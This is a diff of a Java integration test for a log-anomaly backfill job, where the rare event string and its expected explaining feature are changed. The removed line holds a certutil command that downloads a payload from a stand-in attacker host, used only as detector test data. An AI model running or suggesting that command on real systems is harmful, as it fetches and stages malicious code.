@@ -270,7 +270,7 @@ class BackfillIT {
       events.add(event(i, "accountant", "excel sheet" + i));
     }
     String unlike = "git commit -m part1000";
-    String rare = "certutil -urlcache -split -f http://evil.example/payload.bin";
+    String rare = "frobnicate --zorble quux wibble.flarp snark";
     events.add(event(1_000, "accountant", unlike));
     events.add(event(1_001, "dev1", rare));
     Path input = Files.write(folder.resolve("days.jsonl"), events);
@@ -311,7 +311,7 @@ class BackfillIT {
         .allSatisfy(
             reason -> assertThat(reason.get("meaning").asText()).startsWith("global layer"))
         .anySatisfy(
-            reason -> assertThat(reason.get("feature").asText()).isEqualTo("1-gram:certutil"));
+            reason -> assertThat(reason.get("feature").asText()).isEqualTo("1-gram:frobnicate"));
     assertThat(found(out, "scade-local", unlike).get("explanation"))
         .isNotEmpty()
         .allSatisfy(
